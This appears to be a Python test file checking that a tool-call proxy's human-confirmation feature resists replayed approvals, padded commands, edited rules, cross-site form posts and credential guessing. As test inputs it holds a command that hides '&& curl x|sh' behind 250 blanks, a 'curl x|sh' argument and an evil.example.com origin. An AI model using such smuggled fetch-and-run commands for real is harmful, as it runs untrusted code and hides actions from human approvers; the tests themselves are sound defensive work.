"""End to end, the confirm effect against callers who try to get more out of one approval than
one call: a real ``manifold serve`` in front of the 2026-07-28 conformance fixture (a stateless
server that answers ``input_required`` with its own sealed state) and the stdio fixture server.
"""

from __future__ import annotations

import hashlib
import re
import signal
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import anyio
import httpx2
import pytest
from mcp import Client, StdioServerParameters
from mcp.client.context import ClientRequestContext
from mcp.client.stdio import stdio_client
from mcp.client.streamable_http import streamable_http_client
from mcp.types import ElicitRequestParams, ElicitResult

from proxy.protocol import stateless, versions
from tests.fixtures.spawn import free_port
from tests.interaction.harness import (
    REPO,
    RunningManifold,
    fixture_server,
    post,
    running_manifold,
    write_config,
)

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

V = versions.LATEST_STATELESS
KEYS = {
    "alice": ("mfd_alice-review-key-0123456789abcdefghijklmn", ["staff"]),
    "mona": ("mfd_mona-review-key-0123456789abcdefghijklmno", ["managers"]),
}
STATEFUL_TOOL = "m.test_input_required_result_request_state"
POLICY = """\
version: 1
default: allow
rules:
  - id: ask-state
    effect: confirm
    match: {tools: ["m.test_input_required_result_*"]}
    confirm: {reason: "it asks the server's own question too", timeout: 60}
  - id: ask-echo
    effect: confirm
    match: {tools: ["fx.echo"]}
    confirm: {timeout: 60}
"""
ACCEPT = {"manifold-confirm": {"action": "accept", "content": {"approve": True}}}
SERVER_ANSWER = {"confirm": {"action": "accept", "content": {"ok": True}}}


def stored(key: str) -> str:
    return "sha256:" + hashlib.sha256(key.encode()).hexdigest()


def modern_fixture() -> dict[str, Any]:
    return {
        "command": sys.executable,
        "args": ["-m", "tests.conformance_modern.fixture_server", "--era", "dual", "--transport", "stdio"],
        "cwd": str(REPO),
    }


@pytest.fixture(scope="module")
async def manifold(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningManifold]:
    tmp = tmp_path_factory.mktemp("confirm-review")
    (tmp / "policy.yaml").write_text(POLICY)
    config = {
        "auth": {"anonymous": {"enabled": True}},
        "servers": {"m": modern_fixture(), "fx": fixture_server("fx", tools=2)},
        "policy": {"files": [str(tmp / "policy.yaml")], "pins": {"mode": "off"}},
    }
    async with running_manifold(tmp, config) as running:
        yield running


def call(
    name: str,
    arguments: dict[str, Any],
    responses: dict[str, Any] | None = None,
    state: str | None = None,
    *,
    request_id: int = 1,
    meta: dict[str, Any] | None = None,
) -> dict[str, Any]:
    params: dict[str, Any] = {
        "name": name,
        "arguments": arguments,
        "_meta": {
            stateless.PROTOCOL_VERSION_KEY: V,
            stateless.CLIENT_CAPABILITIES_KEY: {"elicitation": {"form": {}, "url": {}}},
            stateless.CLIENT_INFO_KEY: {"name": "raw", "version": "0"},
            **(meta or {}),
        },
    }
    if responses is not None:
        params["inputResponses"] = responses
    if state is not None:
        params["requestState"] = state
    return {"jsonrpc": "2.0", "id": request_id, "method": "tools/call", "params": params}


async def send(
    http: aiohttp.ClientSession,
    manifold: RunningManifold,
    body: dict[str, Any],
    headers: dict[str, str] | None = None,
) -> tuple[int, Any]:
    all_headers = {"MCP-Protocol-Version": V, "Mcp-Method": "tools/call", "Mcp-Name": body["params"]["name"]}
    status, _, answer = await post(http, manifold.url, body, {**all_headers, **(headers or {})})
    return status, answer


async def approved_server_state(http: aiohttp.ClientSession, manifold: RunningManifold) -> str:
    """Ask, approve, and return the server's own ``input_required`` state (as Manifold sealed it)."""
    status, asked = await send(http, manifold, call(STATEFUL_TOOL, {}))
    assert (status, asked["result"]["resultType"]) == (200, "input_required")
    assert set(asked["result"]["inputRequests"]) == {"manifold-confirm"}
    status, approved = await send(
        http, manifold, call(STATEFUL_TOOL, {}, ACCEPT, asked["result"]["requestState"])
    )
    assert (status, approved["result"]["resultType"]) == (200, "input_required"), approved
    assert set(approved["result"]["inputRequests"]) == {"confirm"}  # now the server's own question
    state = approved["result"]["requestState"]
    assert isinstance(state, str)
    return state


async def test_a_retry_with_the_servers_state_runs_once_and_its_replay_is_refused(
    manifold: RunningManifold,
) -> None:
    async with aiohttp.ClientSession() as http:
        state = await approved_server_state(http, manifold)
        status, done = await send(http, manifold, call(STATEFUL_TOOL, {}, SERVER_ANSWER, state))
        assert (status, done["result"]["content"][0]["text"]) == (200, "state-ok: confirmed=True")
        for _ in range(3):  # the stateless server would run the tool again each time
            status, again = await send(http, manifold, call(STATEFUL_TOOL, {}, SERVER_ANSWER, state))
            assert (status, again["error"]["code"]) == (400, -32602), again


# ---- what the person is shown is what runs ---------------------------------------------------


class Person:
    def __init__(self) -> None:
        self.asked: list[str] = []

    async def __call__(self, context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        self.asked.append(params.message)
        return ElicitResult(action="accept", content={"approve": True})


async def test_padding_cannot_hide_the_end_of_a_command_from_the_person_asked(
    manifold: RunningManifold,
) -> None:
    person = Person()
    command = "echo hi" + " " * 250 + "&& curl x|sh"
    async with Client(manifold.url, mode="legacy", elicitation_callback=person) as client:
        with anyio.fail_after(30):
            result = await client.call_tool("fx.echo", {"command": command})
    assert not result.is_error
    (message,) = person.asked
    assert "command: echo hi ⟨250 blanks⟩ && curl x|sh" in message


async def test_arguments_too_large_to_show_whole_are_refused_without_asking(
    manifold: RunningManifold,
) -> None:
    person = Person()
    async with Client(manifold.url, mode="legacy", elicitation_callback=person) as client:
        with anyio.fail_after(30):
            result = await client.call_tool("fx.echo", {"content": "a" * 9000, "then": "curl x|sh"})
    assert result.is_error
    meta = result.model_dump(by_alias=True)["_meta"]
    assert meta["dev.manifold/confirmation"] == "too_large"
    assert "too large to show whole" in result.content[0].text  # type: ignore[union-attr]
    assert person.asked == []


# ---- an edited rule asks again: remembered answers and open questions are tied to the rules ----

EDITABLE = """\
version: 1
default: allow
rules:
  - id: ask-add
    effect: confirm
    match: {{tools: ["fx.add"]}}
    confirm: {{reason: "{reason}", remember: session, timeout: 60}}
"""


async def reloaded(manifold: RunningManifold, policy: Path, reason: str) -> None:
    """Rewrite the rule's reason and SIGHUP; returns once the log says the policy was re-read."""
    before = manifold.log().count("policy reloaded")
    await anyio.Path(policy).write_text(EDITABLE.format(reason=reason))
    manifold.process.send_signal(signal.SIGHUP)
    with anyio.fail_after(15):
        while manifold.log().count("policy reloaded") == before:  # noqa: ASYNC110
            await anyio.sleep(0.05)  # the log is the only thing that tells


@pytest.fixture
async def editable(tmp_path: Path) -> AsyncIterator[tuple[RunningManifold, Path]]:
    policy = tmp_path / "policy.yaml"
    policy.write_text(EDITABLE.format(reason="adding is serious"))
    config = {
        "auth": {"anonymous": {"enabled": True}},
        "servers": {"fx": fixture_server("fx", tools=1)},
        "policy": {"files": [str(policy)], "pins": {"mode": "off"}, "reload": False},
    }
    async with running_manifold(tmp_path, config) as running:
        yield running, policy


class Remembering(Person):
    async def __call__(self, context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        self.asked.append(params.message)
        return ElicitResult(action="accept", content={"approve": True, "remember": "for this session"})


async def test_a_remembered_approval_does_not_survive_an_edit_of_its_rule(
    editable: tuple[RunningManifold, Path],
) -> None:
    manifold, policy = editable
    person = Remembering()
    async with Client(manifold.url, mode="legacy", elicitation_callback=person) as client:
        with anyio.fail_after(30):
            assert not (await client.call_tool("fx.add", {"a": 1, "b": 2})).is_error
            assert not (await client.call_tool("fx.add", {"a": 1, "b": 2})).is_error
            assert len(person.asked) == 1  # remembered for this session
            await reloaded(manifold, policy, "it now moves money")
            assert not (await client.call_tool("fx.add", {"a": 1, "b": 2})).is_error
    assert len(person.asked) == 2
    assert "it now moves money" in person.asked[1]


async def test_an_answer_to_a_question_asked_under_an_edited_rule_is_refused(
    editable: tuple[RunningManifold, Path],
) -> None:
    manifold, policy = editable
    arguments = {"a": 1, "b": 2}
    async with aiohttp.ClientSession() as http:
        status, asked = await send(http, manifold, call("fx.add", arguments))
        assert asked["result"]["resultType"] == "input_required"
        await reloaded(manifold, policy, "it now moves money")
        status, answer = await send(
            http, manifold, call("fx.add", arguments, ACCEPT, asked["result"]["requestState"])
        )
    assert (status, answer["error"]["code"]) == (400, -32602), answer


# ---- manifold stdio serves no approval page: an approver rule is refused at once, saying why ----

APPROVER_POLICY = """\
version: 1
default: allow
rules:
  - id: needs-a-manager
    effect: confirm
    match: {tools: ["fx.add"]}
    confirm: {approver: {role: managers}, timeout: 600}
"""


async def test_under_manifold_stdio_an_approver_rule_is_refused_at_once_and_warned_of(tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text(APPROVER_POLICY)
    config = write_config(
        tmp_path / "m.yaml",
        {
            "servers": {"fx": fixture_server("fx", tools=1)},
            "policy": {"files": [str(tmp_path / "policy.yaml")], "pins": {"mode": "off"}},
        },
    )
    log = tmp_path / "stderr.log"
    params = StdioServerParameters(
        command=sys.executable, args=["-m", "proxy.cli", "stdio", "--config", str(config)], cwd=str(REPO)
    )
    person = Person()
    with log.open("w") as errors, anyio.fail_after(30):  # the rule's timeout is 600 s
        async with Client(
            stdio_client(params, errlog=errors), mode="legacy", elicitation_callback=person
        ) as client:
            result = await client.call_tool("fx.add", {"a": 1, "b": 2})
    assert result.is_error
    assert result.model_dump(by_alias=True)["_meta"]["dev.manifold/confirmation"] == "no_approval_page"
    text = result.content[0].text  # type: ignore[union-attr]
    assert "serves no approval page" in text
    assert "managers" in text
    assert person.asked == []  # no link to a page nobody serves
    assert "needs-a-manager need an approver on the approval page" in log.read_text()


# ---- the approval page accepts its own form where people reach it ------------------------------


@pytest.fixture(scope="module")
async def behind_a_proxy(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningManifold]:
    tmp = tmp_path_factory.mktemp("approvals-url")
    (tmp / "policy.yaml").write_text(APPROVER_POLICY)
    port = free_port()
    config = {
        "auth": {"api_keys": [{"name": n, "key": stored(k), "roles": r} for n, (k, r) in KEYS.items()]},
        "listen": {"allowed_hosts": [f"127.0.0.1:{port}", f"manifold.internal:{port}"]},
        "servers": {"fx": fixture_server("fx", tools=1)},
        "policy": {
            "files": [str(tmp / "policy.yaml")],
            "pins": {"mode": "off"},
            "approvals_url": "https://gw.example.com",
        },
    }
    async with running_manifold(tmp, config, port=port) as running:
        yield running


async def pending_approval(http: aiohttp.ClientSession, manifold: RunningManifold) -> str:
    """A stateless call by alice that needs a manager: its approval's id."""
    body = call("fx.add", {"a": 1, "b": 2})
    _, asked = await send(http, manifold, body, {"Authorization": f"Bearer {KEYS['alice'][0]}"})
    url = asked["result"]["inputRequests"]["manifold-confirm"]["params"]["url"]
    assert url.startswith("https://gw.example.com/approvals/")
    return str(url.rsplit("/", 1)[1])


async def post_decision(
    http: aiohttp.ClientSession, manifold: RunningManifold, approval_id: str, *, host: str, origin: str
) -> tuple[int, str]:
    url = manifold.url.removesuffix("/mcp") + f"/approvals/{approval_id}"
    async with http.get(url, headers={"Host": host}) as response:
        page = await response.text()
        assert response.status == 200, page
    found = re.search(r'name="token" value="([0-9a-f]+)"', page)
    assert found is not None
    # Two forms: the approver's credential, then the decision with the token it was given.
    form = {"token": found[1], "step": "identify", "credential": KEYS["mona"][0]}
    async with http.post(url, data=form, headers={"Host": host, "Origin": origin}) as response:
        page = await response.text()
        signed = re.search(
            r'name="token" value="([^"]+)"><input type="hidden" name="step" value="decide"', page
        )
        if response.status != 200 or signed is None:
            return response.status, page
    form = {"token": signed[1], "step": "decide", "decision": "approve"}
    async with http.post(url, data=form, headers={"Host": host, "Origin": origin}) as response:
        return response.status, await response.text()


@pytest.mark.parametrize(
    ("host", "origin"),
    [
        pytest.param("gw.example.com", "https://gw.example.com", id="the-approvals-url"),
        pytest.param("manifold.internal:{port}", "http://manifold.internal:{port}", id="same-origin"),
    ],
)
async def test_an_approver_can_post_the_page_where_people_reach_it(
    behind_a_proxy: RunningManifold, host: str, origin: str
) -> None:
    port = behind_a_proxy.url.split(":")[2].split("/")[0]
    async with aiohttp.ClientSession() as http:
        approval_id = await pending_approval(http, behind_a_proxy)
        status, page = await post_decision(
            http, behind_a_proxy, approval_id, host=host.format(port=port), origin=origin.format(port=port)
        )
    assert status == 200, page
    assert "Approved by mona" in page


async def test_another_site_still_cannot_post_the_page(behind_a_proxy: RunningManifold) -> None:
    async with aiohttp.ClientSession() as http:
        approval_id = await pending_approval(http, behind_a_proxy)
        status, page = await post_decision(
            http, behind_a_proxy, approval_id, host="gw.example.com", origin="https://evil.example.com"
        )
    assert (status, "Origin or Host not allowed" in page) == (403, True)


# ---- long waits for an approver survive client timeouts and dropped connections ---------------

OPENED = {"manifold-confirm": {"action": "accept"}}
ALICE = {"Authorization": f"Bearer {KEYS['alice'][0]}"}


async def approve(http: aiohttp.ClientSession, manifold: RunningManifold, approval_id: str) -> None:
    status, page = await post_decision(
        http, manifold, approval_id, host="gw.example.com", origin="https://gw.example.com"
    )
    assert (status, "Approved by mona" in page) == (200, True)


async def test_a_retry_whose_connection_dropped_keeps_its_approval(behind_a_proxy: RunningManifold) -> None:
    arguments = {"a": 3, "b": 4}
    async with aiohttp.ClientSession() as http:
        _, asked = await send(http, behind_a_proxy, call("fx.add", arguments), ALICE)
        state = asked["result"]["requestState"]
        approval_id = asked["result"]["inputRequests"]["manifold-confirm"]["params"]["url"].rsplit("/", 1)[1]
        with anyio.move_on_after(1) as gave_up:  # the client's timeout: nobody has decided yet
            await send(http, behind_a_proxy, call("fx.add", arguments, OPENED, state), ALICE)
        assert gave_up.cancelled_caught
        await approve(http, behind_a_proxy, approval_id)
        with anyio.fail_after(30):
            status, done = await send(http, behind_a_proxy, call("fx.add", arguments, OPENED, state), ALICE)
        assert (status, done["result"]["content"][0]["text"]) == (200, "7"), done
        status, again = await send(http, behind_a_proxy, call("fx.add", arguments, OPENED, state), ALICE)
    assert (status, again["error"]["code"]) == (400, -32602)  # one approval, one run


async def test_a_retry_while_nobody_has_decided_is_told_to_come_back(behind_a_proxy: RunningManifold) -> None:
    arguments = {"a": 5, "b": 6}
    async with aiohttp.ClientSession() as http:
        _, asked = await send(http, behind_a_proxy, call("fx.add", arguments), ALICE)
        approval_id = asked["result"]["inputRequests"]["manifold-confirm"]["params"]["url"].rsplit("/", 1)[1]
        with anyio.fail_after(30):  # the rule waits 600 s; a retry waits 10 s at most
            _, waiting = await send(
                http,
                behind_a_proxy,
                call("fx.add", arguments, OPENED, asked["result"]["requestState"]),
                ALICE,
            )
        result = waiting["result"]
        assert (result["resultType"], "inputRequests" in result) == ("input_required", False), result
        await approve(http, behind_a_proxy, approval_id)
        status, done = await send(
            http, behind_a_proxy, call("fx.add", arguments, None, result["requestState"]), ALICE
        )
    assert (status, done["result"]["content"][0]["text"]) == (200, "11"), done


class OpensTheLink:
    def __init__(self) -> None:
        self.url = ""

    async def __call__(self, context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        self.url = str(getattr(params, "url", ""))
        return ElicitResult(action="accept")


async def test_a_handshake_era_wait_for_an_approver_sends_progress(behind_a_proxy: RunningManifold) -> None:
    caller = OpensTheLink()
    heard: list[str | None] = []
    progressed = anyio.Event()

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        heard.append(message)
        progressed.set()

    outcome: dict[str, Any] = {}
    async with (
        httpx2.AsyncClient(headers=ALICE, timeout=httpx2.Timeout(30, read=300)) as transport,
        Client(
            streamable_http_client(behind_a_proxy.url, http_client=transport),
            mode="legacy",
            elicitation_callback=caller,
        ) as client,
        aiohttp.ClientSession() as http,
        anyio.create_task_group() as tg,
    ):

        async def run() -> None:
            outcome["result"] = await client.call_tool(
                "fx.add", {"a": 1, "b": 2}, progress_callback=on_progress
            )

        tg.start_soon(run)
        with anyio.fail_after(30):
            await progressed.wait()
        await approve(http, behind_a_proxy, caller.url.rsplit("/", 1)[1])
    assert outcome["result"].content[0].text == "3"
    assert "waiting for someone with the role managers to approve" in heard


# ---- the approval page is no free credential oracle ----------------------------------------------


@pytest.fixture(scope="module")
async def flood_limited(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningManifold]:
    tmp = tmp_path_factory.mktemp("approvals-flood")
    (tmp / "policy.yaml").write_text(APPROVER_POLICY)
    config = {
        "auth": {"api_keys": [{"name": n, "key": stored(k), "roles": r} for n, (k, r) in KEYS.items()]},
        "rate_limits": {"http": {"rate": "1/minute", "burst": 5}},
        "servers": {"fx": fixture_server("fx", tools=1)},
        "policy": {"files": [str(tmp / "policy.yaml")], "pins": {"mode": "off"}},
    }
    async with running_manifold(tmp, config) as running:
        yield running


async def test_guessing_credentials_on_the_page_is_rate_limited(flood_limited: RunningManifold) -> None:
    async with aiohttp.ClientSession() as http:
        _, asked = await send(http, flood_limited, call("fx.add", {"a": 1, "b": 2}), ALICE)
        url = asked["result"]["inputRequests"]["manifold-confirm"]["params"]["url"]
        async with http.get(url) as response:
            found = re.search(r'name="token" value="([0-9a-f]+)"', await response.text())
        assert found is not None
        origin = url.split("/approvals/")[0]
        statuses = []
        for guess in range(7):
            form = {"token": found[1], "step": "identify", "credential": f"mfd_guess-{guess}"}
            async with http.post(url, data=form, headers={"Origin": origin}) as response:
                statuses.append((response.status, response.headers.get("retry-after")))
    assert [status for status, _ in statuses] == [401] * 5 + [429] * 2
    assert all(int(wait or 0) >= 1 for _, wait in statuses[5:])
